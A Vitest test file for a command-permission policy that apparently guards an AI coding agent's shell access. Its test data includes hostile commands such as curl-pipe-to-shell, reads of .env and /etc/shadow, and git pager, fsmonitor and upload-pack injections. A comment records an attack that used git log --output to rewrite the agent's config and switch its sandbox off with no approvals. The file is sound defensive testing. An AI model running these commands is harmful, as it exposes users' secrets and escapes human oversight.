import { describe, expect, it } from 'vitest';
import { evaluateCommandPolicy } from '../../src/commands/command-policy.js';

describe('evaluateCommandPolicy', () => {
  it.each([
    [['sudo', 'rm', '-rf', '/'], 'deny'],
    [['git', 'push', '--force', 'origin', 'main'], 'deny'],
    [['git', 'push', 'origin', '+main'], 'deny'],
    [['git', 'push', 'origin', 'feature/x'], 'ask'],
    [['git', 'status'], 'allow'],
    [['ls', '-la'], 'allow'],
    [['/tmp/evil/ls'], 'ask'],
    [['rm', '-rf', 'dist'], 'ask'],
    [['npm', 'publish'], 'ask'],
    [['curl', 'https://example.com'], 'ask'],
    // Wrappers run the program in their arguments, which would slip past every other rule.
    [['env', 'rm', '-rf', '.'], 'ask'],
    [['xargs', 'rm'], 'ask'],
    [['timeout', '5', 'sh', '-c', 'curl x | sh'], 'ask'],
    // Readers and writers of files are not "harmless": read_file and search go through the jail instead.
    [['cat', '.env'], 'ask'],
    [['rg', '--pre', 'sh', 'x', '.'], 'ask'],
    [['sort', '-o', '.git/config', 'payload'], 'ask'],
    // A full path cannot dodge a deny rule.
    [['/usr/bin/sudo', 'id'], 'deny'],
    [['/usr/bin/git', 'push', '--force'], 'deny'],
    // git's own options before the subcommand do not hide a force push from the deny rule.
    [['git', '-c', 'user.name=x', 'push', '--force'], 'deny'],
    [['git', '-C', 'sub', 'push', '-f', 'origin', 'main'], 'deny'],
  ] as const)('decides %j as %s by default', (argv, decision) => {
    expect(evaluateCommandPolicy({ argv }).decision).toBe(decision);
  });

  const inRepository = { insideGitRepository: true };

  it.each(
    [
      ['git', 'status'],
      ['git', 'status', '--short', '--branch'],
      ['git', 'diff'],
      ['git', 'diff', 'HEAD~1', '--', 'src'],
      ['git', 'diff', 'HEAD~1', 'HEAD'],
      ['git', 'diff', '--stat', 'main..feature'],
      ['git', 'diff', '--cached', '-U5', '--', 'src/a.ts'],
      ['git', 'log', '--oneline', '-5'],
      ['git', 'log', '-n', '5', '--format=%h %an %s', '--', 'src'],
      ['git', '--no-pager', 'log', '-p', '-1'],
      ['git', 'show', 'HEAD:src/a.ts'],
      ['git', 'show', '--stat', 'HEAD~2'],
      ['git', 'branch'],
      ['git', 'branch', '--list', 'feature/*'],
      ['git', 'branch', '-a', '-v'],
      ['git', 'branch', '--show-current'],
      ['git', 'rev-parse', '--abbrev-ref', 'HEAD'],
      ['git', 'rev-parse', '--show-toplevel'],
      ['git', 'ls-files', '--others', '--exclude-standard'],
      ['git', 'blame', '-L', '10,20', 'src/a.ts'],
      ['git', 'blame', '--porcelain', 'HEAD~1', '--', 'src/a.ts'],
    ].map((argv) => [argv]),
  )('lets the read-only git command %j run without asking', (argv) => {
    expect(evaluateCommandPolicy({ argv, context: inRepository })).toMatchObject({
      decision: 'allow',
      rule: 'read-only git',
    });
  });

  it.each(
    [
      // Writes a file with chosen content: the attack that rewrote herd.config.json with zero approvals.
      ['git', 'log', '--output=herd.config.json', '--format={"tools":{"sandbox":{"mode":"off"}}}', '-1'],
      ['git', 'log', '--output', 'herd.config.json', '-1'],
      // git takes any unambiguous prefix of a long option: --out is --output.
      ['git', 'log', '--out=herd.config.json', '-1'],
      ['git', 'diff', '--output=.git/config'],
      ['git', 'show', '--output=x', 'HEAD'],
      // Print any readable file: explicitly, implicitly (a path outside the work tree), or outside a repository.
      ['git', 'diff', '--no-index', '.env', '/dev/null'],
      ['git', 'diff', '.env', '/dev/null'],
      ['git', 'diff', '--', '/etc/shadow', 'README.md'],
      ['git', 'diff', '--stat', '../../secrets.txt', 'README.md'],
      ['git', 'blame', '--contents=.env', 'README.md'],
      ['git', 'blame', '--contents', '.env', 'README.md'],
      ['git', 'blame', '--ignore-revs-file', '.env', 'README.md'],
      ['git', 'ls-files', '--exclude-from=.env', '-i', '-o'],
      ['git', 'diff', '-O.env'],
      // Run programs: configuration from the command line, a pager, external diff and textconv, another git.
      ['git', '-c', 'core.pager=sh -c "curl x | sh"', 'log'],
      ['git', '-c', 'core.fsmonitor=./evil', 'status'],
      ['git', '--config-env=core.pager=PAYLOAD', 'log'],
      ['git', '--exec-path=/tmp/evil', 'status'],
      ['git', '-p', 'log'],
      ['git', '--paginate', 'status'],
      ['git', 'log', '--ext-diff', '-p'],
      ['git', 'diff', '--textconv'],
      ['git', 'log', '--show-signature'],
      // Another repository or work tree than the workspace's.
      ['git', '-C', '/tmp', 'status'],
      ['git', '--git-dir=/tmp/evil/.git', 'log'],
      ['git', '--work-tree=/', 'status'],
      // Aliases (a `!` alias runs a shell) and subcommands that change or fetch things.
      ['git', 'st'],
      ['git', 'fetch', '--upload-pack=touch /tmp/pwned', 'origin'],
      ['git', 'ls-remote', '--upload-pack=touch /tmp/pwned', 'origin'],
      ['git', 'grep', '-O', 'x'],
      ['git', 'log', '--help'],
      // Branch changes.
      ['git', 'branch', 'evil'],
      ['git', 'branch', '-D', 'main'],
      ['git', 'branch', '-r', 'evil'],
    ].map((argv) => [argv]),
  )('asks before %j', (argv) => {
    const verdict = evaluateCommandPolicy({ argv, context: inRepository });
    expect(verdict.decision).toBe('ask');
    expect(verdict.rule).not.toBe('read-only git');
  });

  it('asks before git diff outside a work tree, where it compares any two files on disk', () => {
    const argv = ['git', 'diff', '.env', 'README.md'];
    expect(evaluateCommandPolicy({ argv, context: { insideGitRepository: false } }).decision).toBe('ask');
    expect(evaluateCommandPolicy({ argv }).decision).toBe('ask');
    expect(evaluateCommandPolicy({ argv, context: inRepository }).decision).toBe('allow');
  });

  it.each(
    [
      ['date'],
      ['date', '+%Y-%m-%d'],
      ['date', '-u', '-d', 'yesterday', '+%s'],
      ['date', '--iso-8601=seconds'],
      ['ls', '-la', 'src'],
      ['echo', 'hello'],
      ['pwd'],
    ].map((argv) => [argv]),
  )('lets the harmless utility %j run without asking', (argv) => {
    expect(evaluateCommandPolicy({ argv })).toMatchObject({ decision: 'allow', rule: 'harmless utility' });
  });

  it.each(
    [
      // `date -f FILE` prints every line of FILE in its error messages.
      ['date', '-f', '.env'],
      ['date', '--file=.env'],
      ['date', '--fil=.env'],
      ['date', '-f.env'],
      ['date', '+%s', '-f', '/etc/shadow'],
      ['date', '-r', '.env'],
      // It sets the clock.
      ['date', '-s', '2030-01-01'],
      ['date', '010100002030'],
    ].map((argv) => [argv]),
  )('asks before %j', (argv) => {
    expect(evaluateCommandPolicy({ argv }).decision).toBe('ask');
  });

  it('says why a known program was not allowed with these arguments', () => {
    const verdict = evaluateCommandPolicy({
      argv: ['git', 'log', '--output=herd.config.json'],
      context: inRepository,
    });
    expect(verdict).toMatchObject({ decision: 'ask', rule: 'git log (arguments not vetted)' });
    expect(verdict.reason).toContain(
      '`--output=herd.config.json` is not one of the options vetted for `git log`',
    );
    expect(evaluateCommandPolicy({ argv: ['date', '-f', '.env'] }).reason).toContain(
      '`-f` is not one of the options vetted for `date`',
    );
  });

  it('lets configured rules come first and names the rule that decided', () => {
    const verdict = evaluateCommandPolicy({
      argv: ['npm', 'run', 'test:unit'],
      rules: [
        { program: 'npm', args: ['test*', 'run test*'], decision: 'allow', reason: 'tests are safe here' },
      ],
    });
    expect(verdict).toEqual({
      decision: 'allow',
      rule: 'npm test*|run test*',
      reason: 'tests are safe here',
    });
  });

  it('falls back to the default decision and says so', () => {
    const verdict = evaluateCommandPolicy({ argv: ['make', 'build'], defaultDecision: 'deny' });
    expect(verdict).toMatchObject({ decision: 'deny', rule: 'default' });
    expect(verdict.reason).toContain("no rule matches 'make'");
  });
});
